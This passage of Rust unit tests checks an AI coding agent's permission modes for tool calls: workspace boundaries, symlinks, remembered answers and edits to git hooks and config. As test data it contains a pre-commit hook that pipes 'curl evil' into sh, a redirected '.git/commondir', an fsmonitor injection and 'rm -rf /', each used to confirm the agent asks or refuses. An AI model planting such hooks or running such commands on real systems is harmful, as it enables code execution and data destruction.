        assert_eq!(PermissionMode::valid_ids(), "ask, accept-edits, read-only, bypass");
        let err = PermissionMode::parse_arg("yolo").unwrap_err();
        assert!(err.contains("\"yolo\""), "{err}");
        assert!(err.contains("accept-edits"), "{err}");
    }

    #[test]
    fn decision_table_inside_the_workspace() {
        let l = layout();
        let read = json!({"file_path": "a.txt"});
        let glob = json!({"pattern": "*.txt"});
        let grep = json!({"pattern": "a", "path": "."});
        let todo = json!({"todos": []});
        let write = json!({"file_path": "b.txt", "content": "b"});
        let edit = json!({"file_path": "a.txt", "old_string": "a", "new_string": "b"});
        let bash = json!({"command": "ls", "description": "List files"});
        let other = json!({"description": "d", "prompt": "p"});
        let table: [(&str, &Value, [&str; 4]); 8] = [
            // tool, arguments, [ask, accept-edits, read-only, bypass]
            ("read", &read, ["allow", "allow", "allow", "allow"]),
            ("glob", &glob, ["allow", "allow", "allow", "allow"]),
            ("grep", &grep, ["allow", "allow", "allow", "allow"]),
            ("todo_write", &todo, ["allow", "allow", "allow", "allow"]),
            ("write", &write, ["ask", "allow", "denied", "allow"]),
            ("edit", &edit, ["ask", "allow", "denied", "allow"]),
            ("bash", &bash, ["ask", "ask", "denied", "allow"]),
            ("subagent", &other, ["allow", "allow", "allow", "allow"]),
        ];
        for (tool, args, expected) in table {
            for (mode, want) in PermissionMode::ALL.into_iter().zip(expected) {
                assert_eq!(decide(mode, &l.ws, tool, args.clone()), want, "{tool} in {mode} mode");
            }
        }
    }

    #[test]
    fn a_sandboxed_command_needs_no_question_and_only_an_unconfined_one_may_leave_the_sandbox() {
        let l = layout();
        let confined = Access::ExecuteSandboxed { command: "make".into(), workdir: None };
        let unconfined = Access::Execute { command: "make".into(), workdir: None };
        for (access, expected) in
            [(&confined, ["allow", "allow", "denied", "allow"]), (&unconfined, ["ask", "ask", "denied", "allow"])]
        {
            for (mode, want) in PermissionMode::ALL.into_iter().zip(expected) {
                assert_eq!(word(&Permissions::new(mode).decide("bash", access, &l.ws)), want, "{access:?} in {mode}");
            }
        }
    }

    #[test]
    fn outside_paths_ask_even_for_reads() {
        let l = layout();
        let secret = l.outside.join("secret.txt");
        let absolute = json!({"file_path": secret.to_str().unwrap()});
        let dotdot = json!({"file_path": "../outside/secret.txt"});
        let search = json!({"pattern": "s", "path": "../outside"});
        let write = json!({"file_path": "../outside/new.txt", "content": "x"});
        for (tool, args) in
            [("read", &absolute), ("read", &dotdot), ("grep", &search), ("glob", &search), ("write", &write)]
        {
            let verdicts: Vec<&str> =
                PermissionMode::ALL.into_iter().map(|mode| decide(mode, &l.ws, tool, args.clone())).collect();
            assert_eq!(verdicts, ["ask", "ask", "denied", "allow-outside"], "{tool} {args}");
        }
    }

    /// Git runs its hooks and what its config names (`core.fsmonitor`): a file tool changing
    /// them is asked about even in accept-edits, and an "always" answer does not carry over.
    #[test]
    fn changing_what_git_runs_asks_even_in_accept_edits() {
        let l = layout();
        std::fs::create_dir_all(l.ws.join(".git/hooks")).unwrap();
        std::fs::write(l.ws.join(".git/config"), "").unwrap();
        let hook = json!({"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"});
        let config = json!({"file_path": ".git/config", "old_string": "", "new_string": "[core]\nfsmonitor = x"});
        // `commondir` moves git's config and hooks to another directory: any file of `.git` counts.
        let common = json!({"file_path": ".git/commondir", "content": "../evil\n"});
        for (tool, args) in [("write", &hook), ("edit", &config), ("write", &common)] {
            let verdicts: Vec<&str> =
                PermissionMode::ALL.into_iter().map(|mode| decide(mode, &l.ws, tool, args.clone())).collect();
            assert_eq!(verdicts, ["ask", "ask", "denied", "allow"], "{tool} {args}");
        }
        assert_eq!(decide(AcceptEdits, &l.ws, "write", json!({"file_path": "src/a.rs", "content": "x"})), "allow");
        assert_eq!(decide(AcceptEdits, &l.ws, "read", json!({"file_path": ".git/config"})), "allow", "reading is fine");
        let permissions = Permissions::new(AcceptEdits);
        let access = Access::Edit { paths: vec![PathBuf::from(".git/hooks/pre-commit")] };
        let Decision::Ask(question) = permissions.decide("write", &access, &l.ws) else { panic!("not asked") };
        assert!(question.title("Write pre-commit").contains("(git runs what this changes: "), "{question:?}");
        permissions.answer(&question, PermissionAnswer::AllowAlways);
        assert!(matches!(permissions.decide("write", &access, &l.ws), Decision::Ask(_)), "asked again");
        // An external agent's edit of them, forwarded, is asked about too.
        let forwarded = Access::Edit { paths: vec![l.ws.join(".git/config")] };
        assert_eq!(permissions.decide_forwarded(&forwarded, true, &l.ws), None);
        let ordinary = Access::Edit { paths: vec![l.ws.join("notes.txt")] };
        assert_eq!(permissions.decide_forwarded(&ordinary, true, &l.ws), Some(PermissionAnswer::AllowOnce));
    }

    #[test]
    fn symlinks_cannot_hide_an_outside_path() {
        let l = layout();
        symlink(&l.outside, l.ws.join("link")).unwrap();
        let args = json!({"file_path": "link/secret.txt"});
        assert_eq!(decide(Ask, &l.ws, "read", args.clone()), "ask");
        assert_eq!(decide(AcceptEdits, &l.ws, "read", args.clone()), "ask");
        let write = json!({"file_path": "link/planted.txt", "content": "x"});
        assert_eq!(decide(AcceptEdits, &l.ws, "write", write), "ask");
        let permissions = Permissions::new(Ask);
        match permissions.decide("read", &access("read", &args), &l.ws) {
            Decision::Ask(question) => {
                let real = l.outside.canonicalize().unwrap().join("secret.txt");
                assert_eq!(question.scope, Scope::Outside(vec![real.clone()]));
                let title = question.title(&tools().get("read").unwrap().title(&args));
                assert_eq!(title, format!("Read link/secret.txt (outside the workspace: {})", real.display()));
            }
            other => panic!("expected a question, got {other:?}"),
        }
    }

    #[test]
    fn read_only_messages_name_the_tool() {
        let l = layout();
        let permissions = Permissions::new(ReadOnly);
        let bash = json!({"command": "rm -rf /", "description": "oops"});
        match permissions.decide("bash", &access("bash", &bash), &l.ws) {
            Decision::Refuse(e) => {
                assert_eq!(e.code, "PERMISSION_DENIED");
                assert_eq!(e.message, "bash is not allowed in read-only mode");
            }
            other => panic!("{other:?}"),
        }
        let outside = json!({"file_path": "../outside/secret.txt"});
        match permissions.decide("read", &access("read", &outside), &l.ws) {
            Decision::Refuse(e) => {
                assert_eq!(e.code, "PERMISSION_DENIED");
                assert!(e.message.contains("read-only"), "{}", e.message);
                assert!(e.message.contains("secret.txt"), "{}", e.message);
            }
            other => panic!("{other:?}"),
        }
        assert_eq!(rejected("write").message, "the user rejected this write call");
        assert_eq!(rejected("write").code, "PERMISSION_REJECTED");
    }

    #[tokio::test]
    async fn malformed_calls_get_the_tools_refusal_instead_of_a_question() {
        let l = layout();
        let tools = tools();
        let prompt = Scripted::new(&[PermissionAnswer::AllowOnce]);
        let dyn_prompt: Arc<dyn PermissionPrompt> = prompt.clone();
        let admit_in = |mode: PermissionMode, tool: &'static str, args: &'static str| {
            let (tools, prompt, ctx) = (tools.clone(), dyn_prompt.clone(), ctx(&l.ws));
            async move { admit(Some(Arc::new(Permissions::new(mode))), Some(prompt), &tools, tool, args, ctx).await }
        };
        let err = admit_in(Ask, "write", r#"{"file_path": 3}"#).await.unwrap_err();
        assert_eq!(err.message, "write: `file_path` must be a string, got 3");
        let err = admit_in(Ask, "bash", r#"{"command": " "}"#).await.unwrap_err();
        assert_eq!(err.message, "bash: `command` is empty; pass the shell command to run");
        let err = admit_in(AcceptEdits, "bash", "not json").await.unwrap_err();
        assert!(err.message.starts_with("arguments for bash are not valid JSON"), "{}", err.message);
        // Read-only refuses by what the tool touches, before looking at the arguments.
        let err = admit_in(ReadOnly, "bash", "not json").await.unwrap_err();
        assert_eq!(err.code, "PERMISSION_DENIED");
        // A call that needs no question is left to the tool, which gives the same refusal.
        assert!(admit_in(Ask, "read", r#"{"file_path": 3}"#).await.is_ok());
        assert_eq!(prompt.count.load(Ordering::SeqCst), 0, "nobody was asked");
        let err = admit_in(Ask, "no_such_tool", "{}").await.unwrap_err();
        assert_eq!(err.code, "UNKNOWN_TOOL");
    }

    #[test]
    fn set_mode_applies_to_the_next_decision() {
        let l = layout();
        let permissions = Permissions::new(Ask);
        let edit = json!({"file_path": "a.txt", "old_string": "a", "new_string": "b"});
        assert_eq!(word(&permissions.decide("edit", &access("edit", &edit), &l.ws)), "ask");
        permissions.set_mode(AcceptEdits);
        assert_eq!(permissions.mode(), AcceptEdits);
        assert_eq!(word(&permissions.decide("edit", &access("edit", &edit), &l.ws)), "allow");
        permissions.set_mode(Bypass);
        assert_eq!(word(&permissions.decide("edit", &access("edit", &edit), &l.ws)), "allow");
    }

    fn question_of(decision: Decision) -> Question {
        match decision {
            Decision::Ask(question) => question,
            other => panic!("expected a question, got {other:?}"),
        }
    }

    #[test]
    fn always_answers_are_remembered_per_tool_inside_the_workspace() {
        let l = layout();
        let permissions = Permissions::new(Ask);
        let bash = |c: &str| json!({"command": c, "description": "d"});
        let q = question_of(permissions.decide("bash", &access("bash", &bash("ls")), &l.ws));
        assert_eq!(q.title(&tools().get("bash").unwrap().title(&bash("ls"))), "Run `ls`");
        assert_eq!(word(&permissions.answer(&q, PermissionAnswer::AllowOnce)), "allow");
        // Once is not remembered.
        let q = question_of(permissions.decide("bash", &access("bash", &bash("pwd")), &l.ws));
        assert_eq!(word(&permissions.answer(&q, PermissionAnswer::AllowAlways)), "allow");
        assert_eq!(word(&permissions.decide("bash", &access("bash", &bash("make")), &l.ws)), "allow");
        // Per tool: writes still ask.
        let write = json!({"file_path": "w.txt", "content": "w"});
        let q = question_of(permissions.decide("write", &access("write", &write), &l.ws));
        assert_eq!(word(&permissions.answer(&q, PermissionAnswer::RejectAlways)), "rejected");
        assert_eq!(word(&permissions.decide("write", &access("write", &write), &l.ws)), "rejected");
        // An allow-always inside the workspace does not cover outside paths.
        let outside = json!({"file_path": "../outside/x.txt", "content": "x"});
        assert_eq!(word(&permissions.decide("write", &access("write", &outside), &l.ws)), "ask");
        // Read-only refusals are not overridden by remembered answers.
        permissions.set_mode(ReadOnly);
        assert_eq!(word(&permissions.decide("bash", &access("bash", &bash("make")), &l.ws)), "denied");
    }

    #[test]
    fn always_answers_outside_cover_the_directory() {
        let l = layout();
        std::fs::create_dir(l.outside.join("sub")).unwrap();
        std::fs::write(l.outside.join("sub/deep.txt"), "d").unwrap();
        let other = l.ws.parent().unwrap().join("elsewhere");
        std::fs::create_dir(&other).unwrap();
        let permissions = Permissions::new(Ask);
        let read = |p: &Path| json!({"file_path": p.to_str().unwrap()});
        let q = question_of(permissions.decide("read", &access("read", &read(&l.outside.join("secret.txt"))), &l.ws));
        permissions.answer(&q, PermissionAnswer::AllowAlways);
        assert_eq!(
            word(&permissions.decide("read", &access("read", &read(&l.outside.join("sub/deep.txt"))), &l.ws)),
            "allow-outside"
        );
        assert_eq!(word(&permissions.decide("read", &access("read", &read(&other.join("x.txt"))), &l.ws)), "ask");
        // Another tool on the same directory still asks.
        let write = json!({"file_path": l.outside.join("n.txt").to_str().unwrap(), "content": "n"});
        assert_eq!(word(&permissions.decide("write", &access("write", &write), &l.ws)), "ask");
    }

    /// Answers questions from a list (then `Dismissed`) and records them.
    struct Scripted {
        answers: Mutex<Vec<PermissionAnswer>>,
        asked: Mutex<Vec<PermissionRequest>>,
        count: AtomicUsize,
    }

    impl Scripted {
        fn new(answers: &[PermissionAnswer]) -> Arc<Self> {
            Arc::new(Scripted {
                answers: Mutex::new(answers.to_vec()),
                asked: Mutex::new(Vec::new()),
                count: AtomicUsize::new(0),
            })
        }
    }

    impl PermissionPrompt for Scripted {
        fn ask(&self, request: PermissionRequest) -> BoxFuture<'static, PermissionAnswer> {
            self.count.fetch_add(1, Ordering::SeqCst);
            lock(&self.asked).push(request);
            let mut answers = lock(&self.answers);
            let answer = if answers.is_empty() { PermissionAnswer::Dismissed } else { answers.remove(0) };
            async move { answer }.boxed()
        }
    }

    /// Never answers.
    struct Silent;

    impl PermissionPrompt for Silent {
        fn ask(&self, _request: PermissionRequest) -> BoxFuture<'static, PermissionAnswer> {
            futures::future::pending().boxed()
        }
    }

    /// Says it was asked, then never answers.
    struct Unanswered(Mutex<Option<tokio::sync::oneshot::Sender<()>>>);

    impl PermissionPrompt for Unanswered {
        fn ask(&self, _request: PermissionRequest) -> BoxFuture<'static, PermissionAnswer> {
            if let Some(asked) = lock(&self.0).take() {
                let _ = asked.send(());
            }
            futures::future::pending().boxed()
        }
    }

    fn ctx(ws: &Path) -> ToolContext {
        let mut ctx = ToolContext::detached(Some(ws.to_path_buf()), CancellationToken::new());
        ctx.session_id = "s1".into();
        ctx.call_id = "call_1".into();
        ctx
    }

    #[tokio::test]
    async fn admit_asks_and_applies_the_answer() {
        let l = layout();
        let permissions = Arc::new(Permissions::new(Ask));
        let prompt = Scripted::new(&[PermissionAnswer::AllowOnce, PermissionAnswer::RejectOnce]);
        let dyn_prompt: Arc<dyn PermissionPrompt> = prompt.clone();
        let args = r#"{"command": "echo hi", "description": "Say hi"}"#;
        let admitted = admit(Some(permissions.clone()), Some(dyn_prompt.clone()), &tools(), "bash", args, ctx(&l.ws))
            .await
            .unwrap();
        assert!(!admitted.allow_outside);
        let asked = lock(&prompt.asked).clone();
        assert_eq!(asked.len(), 1);
        assert_eq!(asked[0].session_id, "s1");
        assert_eq!(asked[0].call_id, "call_1");
        assert_eq!(asked[0].tool, "bash");
        assert_eq!(asked[0].title, "Run `echo hi`");
        assert_eq!(asked[0].raw_input["command"], "echo hi");
        let err = admit(Some(permissions.clone()), Some(dyn_prompt.clone()), &tools(), "bash", args, ctx(&l.ws))
            .await
            .unwrap_err();
        assert_eq!(err.code, "PERMISSION_REJECTED");
        assert_eq!(err.message, "the user rejected this bash call");
        // The list is exhausted: the next question is dismissed, which is a rejection.
        let err = admit(Some(permissions), Some(dyn_prompt), &tools(), "bash", args, ctx(&l.ws)).await.unwrap_err();
        assert_eq!(err.code, "PERMISSION_REJECTED");
    }

    #[tokio::test]
    async fn admit_sets_allow_outside_only_for_an_allowed_outside_call() {
        let l = layout();
        let permissions = Arc::new(Permissions::new(Ask));
        let prompt: Arc<dyn PermissionPrompt> = Scripted::new(&[PermissionAnswer::AllowOnce]);
        let args = r#"{"file_path": "../outside/secret.txt"}"#;
        let admitted =
            admit(Some(permissions.clone()), Some(prompt.clone()), &tools(), "read", args, ctx(&l.ws)).await.unwrap();
        assert!(admitted.allow_outside);
        let inside = admit(Some(permissions), Some(prompt), &tools(), "read", r#"{"file_path": "a.txt"}"#, ctx(&l.ws))
            .await
            .unwrap();
        assert!(!inside.allow_outside);
    }

    #[tokio::test]
    async fn admit_without_permissions_runs_everything_inside_the_tool_checks() {
        let l = layout();
        let admitted =
            admit(None, None, &tools(), "read", r#"{"file_path": "../outside/secret.txt"}"#, ctx(&l.ws)).await.unwrap();
        assert!(!admitted.allow_outside, "the tool keeps refusing outside paths");
    }

    #[tokio::test]
    async fn admit_fails_closed_without_a_prompt_and_on_cancellation() {
        let l = layout();
        let permissions = Arc::new(Permissions::new(Ask));
        let args = r#"{"file_path": "n.txt", "content": "n"}"#;
        let err = admit(Some(permissions.clone()), None, &tools(), "write", args, ctx(&l.ws)).await.unwrap_err();
        assert_eq!(err.code, "PERMISSION_REJECTED");
        let context = ctx(&l.ws);
        let cancel = context.cancel.clone();
        let silent: Arc<dyn PermissionPrompt> = Arc::new(Silent);
        let pending =
            tokio::spawn(async move { admit(Some(permissions), Some(silent), &tools(), "write", args, context).await });
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        cancel.cancel();
        let err = pending.await.unwrap().unwrap_err();
        // Called off while asking: aborted (dsh's words), not "the user rejected" a call the
        // user never answered.
        assert_eq!((err.code.as_str(), err.message.as_str()), ("ABORTED", "tool call aborted"));
    }

    #[tokio::test]
    async fn a_childs_unanswered_question_does_not_hold_its_parents() {
        let l = layout();
        let parent = Arc::new(Permissions::new(Ask));
        let child = Arc::new(parent.narrowed(None));
        let args = r#"{"command": "echo hi", "description": "Say hi"}"#;
        // The child's question is open and nobody answers it (a background child's user looks
        // at the parent's thread).
        let (asked_tx, asked_rx) = tokio::sync::oneshot::channel();
        let unanswered: Arc<dyn PermissionPrompt> = Arc::new(Unanswered(Mutex::new(Some(asked_tx))));
        let child_context = ctx(&l.ws);
        let child_cancel = child_context.cancel.clone();
        let open =
            tokio::spawn(
                async move { admit(Some(child), Some(unanswered), &tools(), "bash", args, child_context).await },
            );
        asked_rx.await.unwrap();
        let prompt = Scripted::new(&[PermissionAnswer::AllowOnce]);
        let registry = tools();
        let parents = admit(
            Some(parent.clone()),
            Some(prompt.clone() as Arc<dyn PermissionPrompt>),
            &registry,
            "bash",
            args,
            ctx(&l.ws),
        );
        let admitted = tokio::time::timeout(std::time::Duration::from_secs(10), parents).await;
        assert!(admitted.expect("the parent's question is not held by the child's").is_ok());
        assert_eq!(prompt.count.load(Ordering::SeqCst), 1, "the parent was asked");
        child_cancel.cancel();
        assert_eq!(open.await.unwrap().unwrap_err().code, "ABORTED");
    }

    #[tokio::test]
    async fn an_always_answer_covers_calls_waiting_behind_it() {
        let l = layout();
        let permissions = Arc::new(Permissions::new(Ask));
        let prompt = Scripted::new(&[PermissionAnswer::AllowAlways]);
        let dyn_prompt: Arc<dyn PermissionPrompt> = prompt.clone();
        let calls = (0..3).map(|i| {
            let (permissions, prompt) = (permissions.clone(), dyn_prompt.clone());
            let context = ctx(&l.ws);
            async move {
                let args = format!(r#"{{"file_path": "../outside/f{i}.txt"}}"#);
                admit(Some(permissions), Some(prompt), &tools(), "read", &args, context).await
            }
        });
        let results = futures::future::join_all(calls).await;
        assert!(results.iter().all(Result::is_ok), "{results:?}");
        assert_eq!(prompt.count.load(Ordering::SeqCst), 1, "one dialog for all three");
    }

    #[tokio::test]
    async fn read_only_refuses_without_asking() {
        let l = layout();
        let permissions = Arc::new(Permissions::new(ReadOnly));
        let prompt = Scripted::new(&[PermissionAnswer::AllowOnce]);
        let dyn_prompt: Arc<dyn PermissionPrompt> = prompt.clone();
        let err = admit(
            Some(permissions),
            Some(dyn_prompt),
            &tools(),
            "bash",
            r#"{"command": "ls", "description": "List"}"#,
            ctx(&l.ws),
        )
        .await
        .unwrap_err();
        assert_eq!(err.code, "PERMISSION_DENIED");
        assert_eq!(err.message, "bash is not allowed in read-only mode");
        assert_eq!(prompt.count.load(Ordering::SeqCst), 0);
    }
}
